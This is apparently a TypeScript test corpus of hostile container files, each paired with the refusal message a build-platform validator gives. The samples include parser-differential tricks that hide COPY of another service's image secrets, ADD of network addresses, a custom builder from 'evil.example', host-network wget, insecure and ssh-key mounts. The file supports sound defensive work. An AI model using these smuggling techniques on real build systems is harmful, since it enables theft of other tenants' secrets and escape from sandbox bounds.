// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of container files are written so.
/** A container file that means harm, as rows of the corpus and of the tests of the rules that refuse it. */
export interface HostileContainerFile {
  readonly name: string;
  /** {registry} becomes the address of the platform's registry, {victim} an image of another service, {url} an address of the machine. */
  readonly text: string;
  /** The refusal, without the name of the file. */
  readonly message: RegExp;
}

const DIFFER = /^\d+: builders differ/;

/** Instructions that one builder runs and another reads as a part of the instruction before. */
export const HIDDEN_INSTRUCTIONS: readonly HostileContainerFile[] = [
  {
    name: 'an image of another, hidden in a heredoc without an end',
    text: 'FROM alpine\nUSER 1001\nRUN cat <<EOF\nCOPY --from={victim} /secret /s\nRUN cat /s\n',
    message: /^4: builders differ .* heredoc/,
  },
  {
    name: 'an address, hidden in a heredoc that ends with an instruction',
    text: 'FROM alpine\nRUN cat <<USER\nADD {url} /x\nUSER\nUSER 1001\n',
    message: /^3: builders differ .* heredoc/,
  },
  {
    name: 'an address, hidden in a heredoc that ends with a comment',
    text: 'FROM alpine\nRUN cat <<#x; echo \\\n#x\nADD {url} /x\nUSER 1001\n',
    message: /^2: builders differ in whether << begins a heredoc/,
  },
  {
    name: 'an address after two backslashes',
    text: 'FROM alpine\nRUN echo \\\\\nADD {url} /x\nUSER 1001\n',
    message: DIFFER,
  },
  {
    name: 'an address after an indented comment',
    text: 'FROM alpine\nRUN echo a \\\n  # c\nADD {url} /x\nUSER 1001\n',
    message: /^4: builders differ .* comment/,
  },
  {
    name: 'an address after an escape directive that some builders pass over',
    text: '# check=skip=all\n# escape=`\nFROM alpine\nRUN echo `\nADD {url} /x\nUSER 1001\n',
    message: /^5: builders differ .* # escape=/,
  },
  {
    name: 'an address after a carriage return at a continued end',
    text: 'FROM alpine\nRUN echo \\\r\r\nADD {url} /x\nUSER 1001\n',
    message: /^2: the character U\+000D/,
  },
  {
    name: 'the image of another in a flag behind a vertical tab',
    text: 'FROM alpine\nRUN \u000b--mount=type=bind,from={victim},target=/v cat /v/secret\nUSER 1001\n',
    message: /^2: the character U\+000B/,
  },
  {
    name: 'the image of another in a flag behind a blank beyond ASCII',
    text: 'FROM alpine\nCOPY \u00a0--from={victim} /secret /s\nUSER 1001\n',
    message: /^2: the character U\+00A0/,
  },
  {
    name: 'an address whose letters a backslash parts',
    text: 'FROM alpine\nADD h\\ttp://127.0.0.1/ /x\nUSER 1001\n',
    message: /^2: ADD .* without quotes and backslashes/,
  },
  {
    name: 'an address whose letters a quote parts',
    text: 'FROM alpine\nADD ht"tp://127.0.0.1/" /x\nUSER 1001\n',
    message: /^2: ADD .* without quotes and backslashes/,
  },
  {
    name: 'an address in JSON whose letters a backslash parts',
    text: 'FROM alpine\nADD ["h\\\\ttp://127.0.0.1/", "/x"]\nUSER 1001\n',
    message: /^2: ADD .* without quotes and backslashes/,
  },
  {
    name: 'an image by the first digits of its id',
    text: 'FROM 12\nUSER 1001\n',
    message: /^1: 12 names an image by its id/,
  },
  {
    name: 'a builder of its own in a file with carriage returns',
    text: '# syntax=evil.example/frontend\r\nFROM alpine\r\nUSER 1001\r\n',
    message: /^1: # syntax=evil\.example\/frontend names a builder of its own/,
  },
  {
    name: 'the image of another in a flag whose name a quote parts',
    text: 'FROM alpine\nCOPY --fr"om"={victim} /secret /s\nUSER 1001\n',
    message: /^2: --fr"om"=.* without quotes/,
  },
  {
    name: 'the image of another in a mount whose name a quote parts',
    text: 'FROM alpine\nRUN --mo"unt"=type=bind,from={victim},target=/v cat /v/secret\nUSER 1001\n',
    message: /^2: --mo"unt"=.* without quotes/,
  },
  {
    name: 'the image of another in a trigger, in a flag whose name a quote parts',
    text: 'FROM alpine\nONBUILD COPY --fr"om"={victim} /secret /s\nUSER 1001\n',
    message: /^2: --fr"om"=.* without quotes/,
  },
  {
    name: 'the image of another in a trigger that is continued within its name',
    text: 'FROM alpine\nONBUILD CO\\\nPY --from={victim} /secret /s\nUSER 1001\n',
    message: /^2: unknown instruction CO/,
  },
  {
    name: 'the image of another in a flag after a quoted blank',
    text: 'FROM alpine\nCOPY --chown="1 1" --from={victim} /secret /s\nUSER 1001\n',
    message: /^2: --chown=.* without quotes/,
  },
  {
    name: 'the image of another in a flag after an escaped blank',
    text: 'FROM alpine\nCOPY --chown=1\\ 1 --from={victim} /secret /s\nUSER 1001\n',
    message: /^2: --chown=.* without quotes/,
  },
  {
    name: 'an address whose letters an escape character parts',
    text: '# escape=`\nFROM alpine\nADD h`ttp://127.0.0.1/ /x\nUSER 1001\n',
    message: /^3: ADD .* without quotes and backslashes/,
  },
  {
    name: 'an address after a heredoc, beside one that stands in quotes',
    text: 'FROM alpine\nRUN cat <<REAL "a <<FAKE b"\nREAL\nADD {url} /x\nRUN echo \\\nFAKE\nUSER 1001\n',
    message: /^2: builders differ in whether << begins a heredoc/,
  },
  {
    name: 'an address after a heredoc, beside one in quotes that a line before opens',
    text: 'FROM alpine\nRUN cat <<REAL "\\\n <<FAKE b"\nREAL\nADD {url} /x\nRUN echo \\\nFAKE\nUSER 1001\n',
    message: /^3: builders differ in whether << begins a heredoc/,
  },
  {
    name: 'the image of another behind a variable that is declared anew',
    text: 'ARG P=docker.io/\nARG P\nFROM ${P}{victim}\nUSER 1001\n',
    message: /^3: .* cannot be read as the name of an image/,
  },
  {
    name: 'the image of another behind the default of an empty variable',
    text: 'ARG P=\nFROM ${P:-{registry}/}{victimName}\nUSER 1001\n',
    message: /^2: .* platform's registry/,
  },
  {
    name: 'the image of another behind a variable that builders set themselves',
    text: 'FROM ${TARGETVARIANT-docker.io/}{victim}\nUSER 1001\n',
    message: /^1: .* cannot be read as the name of an image/,
  },
  {
    name: 'the image of another behind a variable whose name is a number',
    text: 'ARG 1=local\nARG 1host=docker.io/x\nFROM $1host:1/x\nUSER 1001\n',
    message: /^1: ARG 1=local is read differently/,
  },
  {
    name: 'the image of another in the quoted part of a variable',
    text: 'ARG P="x"/\nARG Q="local"host:1\nFROM ${Q}/x\nUSER 1001\n',
    message: /^1: ARG P="x"\/ is read differently/,
  },
];

/** What a container file may not name: images of others, addresses, builders and bounds of its own. */
export const FOREIGN_SOURCES: readonly HostileContainerFile[] = [
  {
    name: 'the image of another service',
    text: 'FROM {victim}\nUSER 1001\n',
    message: /^1: .* platform's registry and not of this service/,
  },
  {
    name: 'the image of another service by a number',
    text: 'FROM {victimByNumber}\nUSER 1001\n',
    message: /^1: .* registry named by an address/,
  },
  {
    name: 'the image of another service by its id',
    text: 'FROM {victimId}\nUSER 1001\n',
    message: /^1: .* names an image by its id/,
  },
  {
    name: 'the image of another service by variables',
    text: 'ARG HOST={registry}\nARG IMAGE=$HOST/{victimName}\nFROM $IMAGE\nUSER 1001\n',
    message: /^3: .* platform's registry/,
  },
  {
    name: 'files of the image of another service',
    text: 'FROM alpine\nCOPY --chown=1 \\\n --from={victim} /secret /s\nUSER 1001\n',
    message: /^2: .* platform's registry/,
  },
  {
    name: 'a mount of the image of another service',
    text: 'FROM alpine\nRUN --mount=type=bind,from=alpine,FROM={victim},target=/v cat /v/secret\nUSER 1001\n',
    message: /^2: .* platform's registry/,
  },
  {
    name: 'an address for the builder to fetch',
    text: 'FROM alpine\nADD {url} /x\nUSER 1001\n',
    message: /^2: ADD of an address/,
  },
  {
    name: 'an address in ONBUILD',
    text: 'FROM alpine\nONBUILD ADD {url} /x\nUSER 1001\n',
    message: /^2: ADD of an address/,
  },
  {
    name: 'a repository for the builder to fetch',
    text: 'FROM alpine\nADD git@127.0.0.1:a/b.git /x\nUSER 1001\n',
    message: /^2: ADD of an address/,
  },
  {
    name: 'a builder of its own',
    text: '# syntax=evil.example/frontend\nFROM alpine\nUSER 1001\n',
    message: /^1: # syntax=/,
  },
  {
    name: 'the network of the machine',
    text: 'FROM alpine\nRUN --network=host wget -qO- {url}\nUSER 1001\n',
    message: /^2: RUN --network=host is not given/,
  },
  {
    name: 'a container without bounds',
    text: 'FROM alpine\nRUN --security=insecure mount\nUSER 1001\n',
    message: /^2: RUN --security is not given/,
  },
  {
    name: 'keys of the machine',
    text: 'FROM alpine\nRUN --mount=type=ssh ssh-add -l\nUSER 1001\n',
    message: /^2: RUN --mount=type=ssh has no key/,
  },
];
